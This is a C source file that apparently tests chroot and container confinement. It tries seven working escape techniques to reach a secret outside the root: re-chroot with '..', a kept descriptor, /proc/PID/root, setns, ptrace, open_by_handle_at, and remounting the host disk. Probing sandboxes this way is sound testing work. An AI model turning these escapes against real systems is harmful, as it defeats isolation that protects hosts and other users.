/* attempts.c - see attempts.h. */
#include "attempts.h"

#include <errno.h>
#include <linux/capability.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#include "look.h"
#include "sys.h"

volatile long attempts_word;

/* errno is 0 when what was found is simply not the outside. */
static int
no_way(void)
{
	return errno ? errno : ENOENT;
}

static int
read_secret(const char *path)
{
	errno = ENOENT;
	return look_holds(path, ATTEMPTS_SECRET) ? 0 : no_way();
}

/*
 * chroot(2) does not move the working directory.  So enter a directory further
 * down, and stand outside of one's own root; from there ".." knows no bound.
 */
static int
chroot_again(const struct attempts_outside *outside)
{
	if (mkdir("/tmp/below", 0755) < 0 && errno != EEXIST)
		return no_way();
	if (sys_chroot("/tmp/below") < 0)
		return no_way();
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return no_way();
	if (sys_chroot(".") < 0)
		return no_way();
	return read_secret(outside->secret);
}

/* A directory opened before is a root of its own for the *at calls. */
static int
use_descriptor(const struct attempts_outside *outside)
{
	char found[16];
	auto_close int fd = openat(outside->kept, outside->secret + 1,
				   O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return no_way();
	return read(fd, found, sizeof(found)) > 0 ? 0 : no_way();
}

/* The kernel's link to another process's root leads right there. */
static int
use_proc_root(const struct attempts_outside *outside)
{
	auto_free char *path = text("/proc/%d/root%s", outside->outsider,
				    outside->secret);
	char found[16];
	auto_close int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return no_way();
	return read(fd, found, sizeof(found)) > 0 ? 0 : no_way();
}

/* Who enters a mount namespace, be it his own, begins at its root. */
static int
enter_own_namespace(const struct attempts_outside *outside)
{
	auto_close int fd = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
	if (fd < 0 || sys_setns(fd, CLONE_NEWNS) < 0)
		return no_way();
	return read_secret(outside->secret);
}

/* The disk that the outer root is on, mounted once more. */
static int
mount_disk(const struct attempts_outside *outside)
{
	struct stat st;
	if (major(outside->device) == 0)
		return ENODEV; /* it is on no disk */
	if (mkdir("/tmp/disk", 0755) < 0 && errno != EEXIST)
		return no_way();
	int made = mknod("/tmp/disk-node", S_IFBLK | 0600, outside->device);
	if (trace(made, "mknod(\"/tmp/disk-node\", S_IFBLK, %u:%u)",
		  major(outside->device), minor(outside->device)) < 0 ||
	    sys_mount("/tmp/disk-node", "/tmp/disk", outside->type, 0, NULL) <
		    0) {
		int code = no_way();
		unlink("/tmp/disk-node");
		return code;
	}
	bool out = stat("/tmp/disk", &st) == 0 && st.st_ino == outside->inode;
	sys_umount2("/tmp/disk", MNT_DETACH);
	unlink("/tmp/disk-node");
	return out ? 0 : ENOENT;
}

/* A process outside does what its tracer wants. */
static int
trace_outsider(const struct attempts_outside *outside)
{
	pid_t pid = outside->outsider;
	int status;
	if (trace(ptrace(PTRACE_ATTACH, pid, NULL, NULL),
		  "ptrace(PTRACE_ATTACH, %d)", pid) < 0)
		return no_way();
	if (waitpid(pid, &status, __WALL) < 0)
		return no_way();
	long found = ptrace(PTRACE_PEEKDATA, pid, (void *)&attempts_word,
			    NULL);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
	return found == outside->word ? 0 : no_way();
}

/* By inode number instead of by name, which no root directory bounds. */
static int
use_handle(const struct attempts_outside *outside)
{
	char found[16];
	if (!outside->handle)
		return EOPNOTSUPP;
	auto_close int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	auto_close int fd = open_by_handle_at(root, outside->handle,
					      O_RDONLY | O_CLOEXEC);
	if (trace(fd, "open_by_handle_at(%d, ..., O_RDONLY)", root) < 0)
		return no_way();
	return read(fd, found, sizeof(found)) > 0 ? 0 : no_way();
}

const struct attempt attempts[] = {
	{ "chroot once more, and \"..\"", chroot_again },
	{ "a descriptor kept open", use_descriptor },
	{ "/proc/PID/root", use_proc_root },
	{ "setns to /proc/self/ns/mnt", enter_own_namespace },
	{ "ptrace of a process", trace_outsider },
	{ "open_by_handle_at", use_handle },
	{ "mount of the disk", mount_disk },
};
_Static_assert(countof(attempts) == ATTEMPTS, "the table and its size");

void *
attempts_take_handle(const char *path)
{
	int mount;
	struct file_handle *handle = new_bytes(sizeof(*handle) + MAX_HANDLE_SZ);
	handle->handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, path, handle, &mount, 0) == 0)
		return handle;
	free(handle);
	return NULL;
}

int
attempts_drop_capabilities(void)
{
	struct __user_cap_header_struct header = {
		.version = _LINUX_CAPABILITY_VERSION_3,
	};
	static const struct __user_cap_data_struct none[2];
	for (int cap = 0; prctl(PR_CAPBSET_READ, cap) >= 0; cap++)
		if (prctl(PR_CAPBSET_DROP, cap) < 0)
			return fail("drop capability %d", cap);
	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0)
		return fail("forbid new privileges");
	if (trace(syscall(SYS_capset, &header, none), "capset(none)") < 0)
		return fail("give up the capabilities");
	return 0;
}
